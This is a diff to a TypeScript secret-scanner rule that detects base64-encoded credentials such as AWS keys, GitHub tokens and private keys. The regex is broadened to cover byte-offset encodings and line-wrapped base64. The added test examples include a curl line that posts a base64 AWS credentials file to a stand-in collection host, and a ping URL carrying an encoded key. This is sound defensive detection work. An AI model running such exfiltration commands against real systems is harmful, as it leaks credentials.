@@ -2035,19 +2035,22 @@ export const SECRET_RULES: readonly DetectorRule[] = [
   {
     id: "secret.base64-credential",
     kind: "secret",
-    reason: "A credential of a known shape (an AWS key id, a GitHub or Slack token, a Stripe live key, a private key), base64-encoded: the same secret, hidden from a plain look (T1132).",
+    reason: "A credential of a known shape (an AWS key, a GitHub or Slack token, a Stripe live key, a private key), base64-encoded: the same secret, hidden from a plain look (T1132).",
     score: 85,
-    // What each credential's first characters are in base64 (AKIA → QUtJQ, ghp_ → Z2hwX, xoxb- → eG94Yi,
-    // sk_live_ → c2tfbGl2ZV, -----BEGIN → LS0tLS1CRUdJTi); the value must decode to that credential's shape.
-    keywords: ["qutjq", "qvnjq", "z2hwx", "z2hvx", "z2h1x", "z2hzx", "z2l0ahvix3bhdf", "eg94y", "eg94c", "c2tfbgl2zv", "ls0tls1crudjti"],
-    pattern: /(?<![A-Za-z0-9+/_-])(?:QUtJQ|QVNJQ|Z2hwX|Z2hvX|Z2h1X|Z2hzX|Z2l0aHViX3BhdF|eG94[Yc]|c2tfbGl2ZV|LS0tLS1CRUdJTi)[A-Za-z0-9+/_-]{16,4000}={0,2}/g,
+    // What a credential's first characters become in base64 at each of the three byte offsets
+    // (AKIA → QUtJQ, FLSU, BS0lB; ghp_ → Z2hwX, docF, naHBf; aws_secret_access_key, -----BEGIN,
+    // PRIVATE KEY likewise). A run of base64 (line-wrapped or not) holding one is decoded whole, and
+    // must hold that credential's shape somewhere.
+    keywords: ["qutjq", "flsu", "bs0lb", "qvnjq", "ftsu", "bu0lb", "z2hwx", "docf", "nahbf", "z2hvx", "z2h1x", "z2hzx", "eg94y", "eg94c", "hveg", "4b3hi", "c2tfbgl2zv", "nrx2xpdmvf", "za19saxzlx", "yxdzx3nly3jldf9hy2nlc3nfa2v5", "f3c19zzwnyzxrfywnjzxnzx2tle", "hd3nfc2vjcmv0x2fjy2vzc19rzx", "ls0tls1crudjt", "0tls0tqkvhsu", "tls0tlujfr0lo", "ufjjvkfursblrv", "bssvzbveugs0vz", "qukldqvrfiektfw"],
+    pattern: /(?<![A-Za-z0-9+/_-])(?=[A-Za-z0-9+/_\r\n-]{0,4000}?(?:QUtJQ|FLSU|BS0lB|QVNJQ|FTSU|BU0lB|Z2hwX|docF|naHBf|Z2hvX|Z2h1X|Z2hzX|eG94[Yc]|hveG|4b3hi|c2tfbGl2ZV|NrX2xpdmVf|za19saXZlX|YXdzX3NlY3JldF9hY2Nlc3Nfa2V5|F3c19zZWNyZXRfYWNjZXNzX2tle|hd3Nfc2VjcmV0X2FjY2Vzc19rZX|LS0tLS1CRUdJT|0tLS0tQkVHSU|tLS0tLUJFR0lO|UFJJVkFURSBLRV|BSSVZBVEUgS0VZ|QUklWQVRFIEtFW))[A-Za-z0-9+/_-](?:[A-Za-z0-9+/_-]|\r?\n(?=[A-Za-z0-9+/_-])){19,4000}={0,2}/g,
     validators: [{ check: "base64-credential" }],
     examples: {
       match: [
         `https://status-ping.example.dev/beat?k=${Buffer.from(`AKIA${fake(UPNUM, 16, 21)}:${fake(ALNUM, 40, 22)}`).toString("base64")}`,
         `TOKEN_B64=${Buffer.from(`ghp_${fake(ALNUM, 36, 23)}`).toString("base64")}`,
+        `curl -d ${Buffer.from(`[default]\naws_access_key_id = AKIA${fake(UPNUM, 16, 24)}\naws_secret_access_key = ${fake(ALNUM, 40, 25)}\n`).toString("base64")} https://collect.example-metrics.net/`,
       ],
-      noMatch: [`QUtJQUZPUk1BVF9OT1RF`, `id=${Buffer.from("AKIA is how AWS key ids start").toString("base64")}`],
+      noMatch: [`QUtJQUZPUk1BVF9OT1RF`, `id=${Buffer.from("AKIA is how AWS key ids start").toString("base64")}`, Buffer.from("aws_access_key_id = AKIAIOSFODNN7EXAMPLE").toString("base64")],
     },
   },
   {
